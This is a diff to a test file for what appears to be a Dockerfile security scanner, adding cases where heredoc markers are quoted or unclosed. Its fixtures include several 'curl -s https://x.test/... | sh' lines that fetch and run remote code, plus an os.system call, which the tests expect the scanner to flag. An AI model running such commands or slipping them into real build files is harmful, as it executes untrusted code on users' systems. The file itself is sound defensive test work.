@@ -125,6 +125,9 @@ test('scanner22: Dockerfile flags with quoted values, empty and comment lines in
   assert.equal(rows('RUN <<EOF\n#!/usr/bin/env python3\nimport os\nos.system("id")\nEOF\n'), ['2 subprocess.python-os-exec os.system']);
   assert.equal(rows('RUN cat <<EOF > /etc/profile.d/x.sh\ncurl -s https://x.test/b | sh\nEOF\nRUN echo after\n'), []);
   assert.equal(rows('RUN bash setup.sh <<EOF\ncurl -s https://x.test/b | sh\nEOF\n'), []);
+  // A marker inside quotes is text, and one never closed is no heredoc: the lines after are instructions.
+  assert.equal(rows('RUN echo "a <<EOF b"\nRUN curl -s https://x.test/i | sh\nEOF\n'), ['3 download command:curl', '3 remote-code command:curl|sh']);
+  assert.equal(rows('RUN cat <<EOF\nRUN curl -s https://x.test/i | sh\n'), ['3 download command:curl', '3 remote-code command:curl|sh']);
   // ADD: a checksum flag, a quoted source in exec form, a git repository by URL or scp-like address.
   assert.equal(rows('ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.test/t.tgz /opt/\n'), ['2 download command:ADD']);
   assert.equal(rows('ADD --chown="1000:1000" ["https://x.test/a b.tgz", "/opt/"]\n'), ['2 download command:ADD']);
